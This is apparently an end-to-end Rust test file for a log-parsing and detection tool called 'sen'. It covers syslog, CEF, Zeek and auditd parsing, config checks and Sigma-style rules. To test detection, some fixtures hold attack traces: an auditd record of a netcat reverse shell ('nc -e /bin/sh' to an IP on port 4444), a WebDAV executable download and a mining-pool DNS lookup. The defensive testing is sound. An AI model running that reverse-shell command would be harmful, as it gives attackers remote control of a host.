//! End-to-end: the `sen` command-line tools other than `serve`.

use std::io::Write;
use std::process::{Command, Stdio};

fn sen(args: &[&str], stdin: &str) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Feed stdin from a thread so a large output cannot deadlock against a full pipe.
    let mut input = child.stdin.take().unwrap();
    let data = stdin.as_bytes().to_vec();
    let writer = std::thread::spawn(move || {
        let _ = input.write_all(&data);
    });
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn parse_prints_one_normalized_event_per_line() {
    let input = "<34>1 2026-11-26T10:00:00.123+07:00 web01 sshd 4321 - - Failed password for root from 203.0.113.9 port 50000 ssh2\n\
                 CEF:0|Fortinet|FortiGate|7.2|13|traffic deny|5|src=192.0.2.1 dst=203.0.113.10 dpt=22 act=deny\n\
                 not a log line at all\n";
    let (code, out, err) = sen(&["parse"], input);
    assert_eq!(code, 0, "{err}");
    let events: Vec<serde_json::Value> =
        out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events.len(), 3);
    assert_eq!(events[0]["@timestamp"], "2026-11-26T03:00:00.123Z");
    assert_eq!(events[0]["host.hostname"], "web01");
    assert_eq!(events[0]["source.ip"], "203.0.113.9");
    assert_eq!(events[1]["observer.vendor"], "Fortinet");
    assert_eq!(events[1]["destination.port"], 22);
    assert!(events[2]["tags"].as_array().unwrap().iter().any(|t| t == "_parse_failure"));
    assert_eq!(events[2]["event.original"], "not a log line at all");

    // A line that fails the chosen format still yields an event, marked.
    let (code, out, _) = sen(&["parse", "--format", "cef"], "<13>Nov 26 10:00:00 h app: plain\n");
    assert_eq!(code, 0);
    let e: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    assert!(e["error.message"].is_string(), "{e}");
    assert_eq!(e["event.original"], "<13>Nov 26 10:00:00 h app: plain");

    let (code, _, err) = sen(&["parse", "--format", "xml"], "");
    assert_ne!(code, 0);
    assert!(err.contains("xml"), "{err}");
}

#[test]
fn config_check_names_file_line_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let (code, default, _) = sen(&["config", "default"], "");
    assert_eq!(code, 0);
    let good = dir.path().join("good.toml");
    std::fs::write(&good, &default).unwrap();
    let (code, out, err) = sen(&["config", "check", good.to_str().unwrap()], "");
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("ok"));

    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "version = 1\n\n[http]\nlisten = \"127.0.0.1:8080\"\nlsten = \"x\"\n")
        .unwrap();
    let (code, _, err) = sen(&["config", "check", bad.to_str().unwrap()], "");
    assert_ne!(code, 0);
    assert!(err.contains("bad.toml") && err.contains("line 5") && err.contains("lsten"), "{err}");

    let bad2 = dir.path().join("bad2.toml");
    std::fs::write(&bad2, "version = 1\n[pipeline]\ndefault_timezone = \"Mars/Olympus\"\n[http]\nlisten = \"nowhere\"\n").unwrap();
    let (code, _, err) = sen(&["config", "check", bad2.to_str().unwrap()], "");
    assert_ne!(code, 0);
    assert!(err.contains("Mars/Olympus") && err.contains("http.listen"), "{err}");
}

#[test]
fn demo_prints_parseable_province_logs() {
    let (code, out, err) = sen(&["demo", "--hours", "1"], "");
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines.len() > 1000, "{} lines", lines.len());
    let (code, parsed, _) = sen(&["parse"], &out);
    assert_eq!(code, 0);
    let failures = parsed.lines().filter(|l| l.contains("_parse_failure")).count();
    assert_eq!(failures, 0, "every demo line parses");
    assert_eq!(parsed.lines().count(), lines.len());
}

#[test]
fn shipped_example_config_is_valid() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/sen.toml");
    let (code, out, err) = sen(&["config", "check", path], "");
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("ok"));
}

#[test]
fn rules_check_reports_every_error_with_its_file() {
    let dir = tempfile::tempdir().unwrap();
    let good = "title: Whoami\nid: 0c8d1f6e-0000-4000-8000-000000000001\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n";
    std::fs::write(dir.path().join("good.yml"), good).unwrap();
    let (code, out, err) = sen(&["rules", "check", dir.path().to_str().unwrap()], "");
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("1 rules loaded, 0 failed"), "{out}");
    std::fs::write(dir.path().join("bad.yml"), good.replace("endswith", "nosuchmodifier")).unwrap();
    let (code, out, _) = sen(&["rules", "check", "--json", dir.path().to_str().unwrap()], "");
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["loaded"], 1);
    assert_eq!(v["failed"], 1);
    assert!(v["errors"][0]["file"].as_str().unwrap().ends_with("bad.yml"), "{v}");
}

#[test]
fn rules_test_reads_zeek_tsv_and_json_files_and_the_zeek_pack_fires() {
    let dir = tempfile::tempdir().unwrap();
    // Zeek's default TSV writer: the header names and types every column.
    let tsv = dir.path().join("http.log");
    std::fs::write(
        &tsv,
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n\
         #open\t2020-04-30-00-35-25\n\
         #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\tuser_agent\tstatus_code\tresp_mime_types\n\
         #types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tcount\tvector[string]\n\
         1588206925.615397\tCz1\t10.0.1.4\t60799\t192.168.0.4\t80\t1\tGET\t192.168.0.4\t/webdav/python.exe\tMicrosoft-WebDAV-MiniRedir/10.0.18362\t200\tapplication/x-dosexec\n\
         1588206926.000000\tCz2\t10.0.1.4\t60800\t192.168.0.4\t80\t1\tGET\t192.168.0.4\t/index.html\tMozilla/5.0\t200\ttext/html\n\
         #close\t2020-04-30-01-00-00\n",
    )
    .unwrap();
    // Zeek's JSON writer, in another file: the two are evaluated in time order.
    let json = dir.path().join("dns.json");
    std::fs::write(
        &json,
        "{\"ts\":1588206920.5,\"uid\":\"Cd1\",\"id.orig_h\":\"10.0.1.4\",\"id.orig_p\":5353,\"id.resp_h\":\"10.0.0.4\",\"id.resp_p\":53,\"proto\":\"udp\",\"query\":\"pool.minexmr.com\",\"qtype_name\":\"A\",\"rejected\":false}\n",
    )
    .unwrap();
    let (code, out, err) = sen(
        &["rules", "test", "--json", "--events", tsv.to_str().unwrap(), json.to_str().unwrap()],
        "",
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["events"], 3, "{v}");
    assert_eq!(v["parse_failures"], 0, "{v}");
    let titles: Vec<&str> =
        v["matches"].as_array().unwrap().iter().map(|m| m["title"].as_str().unwrap()).collect();
    // The Zeek pack's rules, and the SigmaHQ DNS and proxy packs' generic rules reading Zeek
    // through ECS (a mining pool lookup; the WebDAV client; the bare `Mozilla/5.0` agent of
    // exploit frameworks).
    assert_eq!(
        titles,
        [
            "Monero Crypto Coin Mining Pool Lookup",
            "DNS Events Related To Mining Pools",
            "Windows WebDAV User Agent",
            "Executable from Webdav",
            "Exploit Framework User Agent"
        ],
        "{v}"
    );
    // The match shows the TSV line as read.
    let webdav = &v["matches"][3];
    assert!(webdav["original"].as_str().unwrap().starts_with("1588206925.615397\tCz1\t"), "{v}");
}

/// The records of one `nc -e /bin/sh` execution, as auditd writes them.
const NETCAT: &str = "type=SYSCALL msg=audit(1764129609.100:5014): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=2 ppid=4500 pid=4501 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)
type=EXECVE msg=audit(1764129609.100:5014): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"203.0.113.5\" a4=\"4444\"
type=CWD msg=audit(1764129609.100:5014): cwd=\"/tmp\"
type=PATH msg=audit(1764129609.100:5014): item=0 name=\"/usr/bin/nc\" inode=4711 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PROCTITLE msg=audit(1764129609.100:5014): proctitle=6E63002D65
type=EOE msg=audit(1764129609.100:5014): 
Nov 26 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.5 port 22 ssh2
";

#[test]
fn parse_and_rules_test_join_audit_records() {
    // `sen parse`: the records, the joined event right after the PROCTITLE (the kernel's last
    // record of the event before EOE), the EOE, the next line.
    let (code, out, err) = sen(&["parse"], NETCAT);
    assert_eq!(code, 0, "{err}");
    let events: Vec<serde_json::Value> =
        out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events.len(), 8);
    let joined = &events[5];
    assert_eq!(events[6]["auditd.message_type"], "eoe");
    assert_eq!(joined["event.dataset"], "auditd.event", "{joined}");
    assert_eq!(joined["process.executable"], "/usr/bin/nc");
    assert_eq!(joined["process.command_line"], "nc -e /bin/sh 203.0.113.5 4444");
    assert_eq!(joined["process.working_directory"], "/tmp");
    assert_eq!(joined["event.type"], serde_json::json!(["start"]));
    assert_eq!(events[7]["process.name"], "sshd");
    // `sen rules test` over the file: the built-in netcat rule needs `Image` and `CommandLine`,
    // which only the joined event holds.
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    std::fs::write(&log, NETCAT).unwrap();
    let (code, out, err) = sen(&["rules", "test", "--json", "--events", log.to_str().unwrap()], "");
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["events"], 8, "{v}");
    let netcat: Vec<&serde_json::Value> = v["matches"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["title"] == "Potential Netcat Reverse Shell Execution")
        .collect();
    assert_eq!(netcat.len(), 1, "{v}");
    assert!(netcat[0]["original"].as_str().unwrap().starts_with("type=SYSCALL"), "{v}");
    assert!(netcat[0]["original"].as_str().unwrap().contains("\ntype=EXECVE"), "{v}");
}
